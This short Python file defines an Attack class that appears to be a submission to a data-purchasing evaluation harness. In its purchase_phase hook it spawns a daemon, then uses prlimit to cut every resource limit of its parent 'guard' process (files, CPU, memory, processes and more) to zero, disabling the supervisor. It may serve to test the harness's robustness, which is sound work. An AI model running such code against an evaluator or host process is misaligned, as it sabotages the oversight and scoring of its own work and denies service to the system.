"""Takes its guard's resources by limits: no file, no second of computing, no memory, no process; then leaves a daemon."""

import os
import resource
import time

from aim import attempt, daemon

from run import ZEWDPCBaseRun


class Attack(ZEWDPCBaseRun):
    def purchase_phase(self, unlabelled_dataset):
        daemon(time.sleep, 12)
        for name in ("NOFILE", "CPU", "DATA", "AS", "STACK", "FSIZE", "NPROC", "SIGPENDING", "MEMLOCK"):
            attempt(resource.prlimit, os.getppid(), getattr(resource, f"RLIMIT_{name}"), (0, 0))
        time.sleep(30)
